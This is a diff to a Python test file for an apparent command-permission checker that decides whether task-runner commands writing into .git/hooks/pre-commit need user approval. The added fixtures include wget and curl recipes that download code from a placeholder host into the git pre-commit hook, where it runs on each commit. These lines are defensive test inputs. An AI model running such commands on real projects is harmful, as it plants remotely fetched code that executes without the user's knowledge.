@@ -32,6 +32,8 @@ exported:
     cp hook.sh $D
 plain:
     cp hook.sh build/hook.sh
+dl dst=".git/hooks/pre-commit":
+    wget -O {{dst}} https://example.com/hook
 """
 TASKFILE = """\
 version: '3'
@@ -50,7 +52,8 @@ tasks:
     cmds:
       - cp hook.sh build/hook.sh
 """
-PACKAGE = {"scripts": {"hook": "cp hook.sh $npm_package_config_dst", "plain": "cp hook.sh build/hook.sh"},
+PACKAGE = {"scripts": {"hook": "cp hook.sh $npm_package_config_dst", "plain": "cp hook.sh build/hook.sh",
+                       "dl": "curl -o $npm_package_config_dst https://example.com/hook"},
            "config": {"dst": ".git/hooks/pre-commit"}}
 MAKEFILE = "export D = .git/hooks/pre-commit\nhook:\n\tcp hook.sh $$D\nplain:\n\tcp hook.sh build/hook.sh\n"
 
@@ -69,16 +72,21 @@ def project(tmp_path):
 
 @pytest.mark.parametrize(("command", "expected"), [
     ("just install", "ask"), ("just inst2", "ask"), ("just exported", "ask"), ("just plain", "allow"),
+    ("just dl", "ask"), ("npm run dl", "ask"),  # a program writing what its option names
     ("task hook", "ask"), ("task envhook", "ask"), ("task plain", "allow"),
     ("npm run hook", "ask"), ("npm run plain", "allow"),
     ("make hook", "ask"), ("make plain", "allow"),
     ('cp hook.sh "$DEST"', "allow"),  # typed in the line: the user's own environment's value
+    ('wget -O "$DEST" https://example.com/hook', "allow"),
 ])
 async def test_a_task_files_variable_naming_what_a_writer_writes_asks(project, command, expected):
     verdict = await decide_bash(make_ctx(project, mode="bypassPermissions"), command)
     assert verdict_name(verdict) == expected, (command, verdict)
     if expected == "ask":
-        assert is_sticky(verdict) and "known only at run time" in verdict.message, verdict
+        # a value the reader resolves (just's string variable, a task's own vars) is named outright
+        named = ".git/hooks/pre-commit is inside .git/" in verdict.message
+        run_time = "known only at run time" in verdict.message or "only known at run time" in verdict.message
+        assert is_sticky(verdict) and (named or run_time), verdict
 
 
 def test_a_python_value_a_cell_hands_a_writer_asks(tmp_path):
